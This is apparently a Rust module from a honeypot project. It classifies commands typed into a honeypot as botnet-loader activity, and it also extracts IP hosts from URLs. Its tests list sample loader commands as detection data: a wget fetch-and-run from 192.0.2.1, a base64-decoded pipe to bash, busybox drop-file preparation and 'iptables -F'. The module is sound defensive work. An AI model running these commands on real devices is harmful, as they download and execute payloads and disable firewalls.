//! What a typed command is, as far as botnet loaders go: the name of a rule, never the command.
//!
//! Honeypots see what sessions on the wire show too, so their rules come first; the further ones here are what
//! loaders type before they fetch, which from an administrator's session on a real device would prove nothing.

use crate::session::loader_command;
use std::net::IpAddr;

const LONGEST: usize = 16 * 1024;

/// The rule that a command line typed into a honeypot matches; `None` where it is not what loaders type.
#[must_use]
pub fn classify(command: &str) -> Option<&'static str> {
    let bytes = command.as_bytes();
    loader_command(bytes.get(..LONGEST).unwrap_or(bytes)).or_else(|| preparation(command))
}

/// What loaders do around fetching: look for a place, learn the architecture, make a program runnable.
fn preparation(command: &str) -> Option<&'static str> {
    let separates = |letter: char| {
        letter.is_whitespace() || matches!(letter, ';' | '|' | '&' | '`' | '(' | ')' | '<' | '"' | '\'')
    };
    let words: Vec<&str> = command.split(separates).filter(|word| !word.is_empty()).take(2048).collect();
    let has = |name: &str| words.iter().any(|word| word.rsplit('/').next() == Some(name));
    let runs = words.iter().any(|word| word.starts_with("./"));
    if reads_itself(command, &words) {
        Some("reads a program to learn the machine's architecture")
    } else if has("busybox") && (has("chmod") || has("cp")) {
        Some("prepares a drop file with busybox")
    } else if probes_directory(command) {
        Some("looks for a writable directory")
    } else if has("chmod") && runs {
        Some("makes a file executable and runs it")
    } else if has("iptables") && words.contains(&"-F") {
        Some("turns the firewall off")
    } else if has("scp") && words.contains(&"-t") {
        Some("receives a file over scp")
    } else {
        None
    }
}

/// `cat /bin/echo`, `dd if=/bin/busybox bs=52 count=1`, or the same in a read loop.
fn reads_itself(command: &str, words: &[&str]) -> bool {
    let program = |word: &&str| {
        let path = word.strip_prefix("if=").unwrap_or(word);
        path.starts_with("/bin/") || path.starts_with("/proc/self/exe") || path.starts_with('.')
    };
    let reader = words.iter().any(|word| matches!(*word, "cat" | "dd" | "head" | "hexdump"));
    let header = words.iter().any(|word| word.starts_with("bs=")) || command.contains("while read");
    let cats = words.windows(2).any(|pair| matches!(pair, ["cat", path] if path.starts_with("/bin/")));
    cats || reader && header && words.iter().any(program)
}

/// `>/tmp/x && cd /tmp/`: writes an empty file and goes there.
fn probes_directory(command: &str) -> bool {
    let Some((before, after)) = command.split_once('>') else { return false };
    let path = after.split([' ', ';', '&']).next().unwrap_or_default();
    before.trim().is_empty() && path.starts_with('/') && after.contains("cd /")
}

/// The host of a URL, where it is an address.
#[must_use]
pub fn host_address(url: &str) -> Option<IpAddr> {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    if let Some(bracketed) = host.strip_prefix('[') {
        return bracketed.split(']').next()?.parse().ok();
    }
    host.split(':').next()?.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn loaders_are_told_from_visitors() {
        let check = |command: &str, expected: bool| {
            assert_eq!(classify(command).is_some(), expected, "{command}: {:?}", classify(command));
        };
        for loader in [
            "/bin/busybox SATORI",
            "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI",
            "cd /tmp; wget http://192.0.2.1/a.sh; chmod 777 a.sh; sh a.sh",
            "/bin/busybox cp /bin/busybox retrieve && >retrieve && /bin/busybox chmod 777 retrieve",
            "/bin/busybox cat /bin/busybox || while read i; do echo $i; done < /bin/busybox",
            "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
            ">/var/run/t && cd /var/run/ && >retrieve; >.t",
            "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00\\x00\\x00\\x00\\x00' > a",
            "echo d2hvYW1p | base64 -d | bash",
            "chmod +x x; ./x",
            "iptables -F",
            "scp -t /tmp/x",
        ] {
            check(loader, true);
        }
        for visitor in [
            "ls -la /tmp",
            "enable",
            "sh",
            "uname -a",
            "cat /etc/passwd",
            "echo hello",
            "cd /tmp",
            "free -m",
            "",
        ] {
            check(visitor, false);
        }
    }

    #[test]
    fn hosts_of_urls_are_addresses_or_nothing() {
        let check = |url: &str, expected: Option<&str>| {
            assert_eq!(host_address(url), expected.map(|text| text.parse().unwrap()), "{url}");
        };
        check("http://192.0.2.1/x", Some("192.0.2.1"));
        check("tftp://user@192.0.2.1:69/x?y#z", Some("192.0.2.1"));
        check("http://[2001:db8::1]:80/", Some("2001:db8::1"));
        check("192.0.2.1:80", Some("192.0.2.1"));
        check("http://example.com/192.0.2.1", None);
        check("", None);
    }
}
